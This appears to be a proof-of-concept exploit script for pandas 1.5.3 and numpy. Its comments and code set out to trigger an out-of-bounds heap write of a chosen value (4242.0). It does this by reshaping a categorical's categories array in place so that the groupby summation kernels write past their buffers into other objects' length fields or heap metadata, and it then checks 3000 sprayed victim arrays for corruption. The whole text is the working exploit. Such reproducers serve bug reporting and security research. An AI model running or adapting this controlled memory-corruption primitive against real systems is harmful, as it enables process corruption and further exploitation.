# source: numpy ndarray.shape setter; pandas 1.5.3 groupby on a categorical key: ngroups = len(categories), codes used as row numbers by the cython kernels (_libs/groupby.pyx group_sum: sumx[lab, j] += val, no bounds check)
# family: in-place reshape of a pandas Index's backing array (categories) shrinks the group count under validated codes -> groupby kernels write past their result buffers
# goal: out-of-bounds heap write of a chosen value (4242.0): it lands in another object's length field / glibc heap metadata
import numpy as np
import pandas as pd

marker = 4661386143026118656  # the bits of the float 4242.0
print("4242.0 as a 64-bit integer:", int(marker), flush=True)
n = 64
c = pd.Categorical(np.arange(n, dtype=float), categories=np.arange(float(n)))
c.categories.values.shape = (1, n)
print("groups pandas will allocate for:", len(c.categories), "codes up to", int(c.codes.max()), flush=True)
df = pd.DataFrame({"k": c, "x": np.full(n, 4242.0)})
victims = [np.zeros(1) for _ in range(3000)]
try:
    r = df.groupby("k").sum()
    print("result", r.shape, flush=True)
    hit = [v.tolist() for v in victims if v[0] != 0.0]
    print("unrelated arrays changed:", len(hit), hit[:3], flush=True)
except Exception as e:
    print("after the write:", type(e).__name__, str(e), flush=True)
    print("written value shows up as a length:", str(int(marker)) in str(e), flush=True)
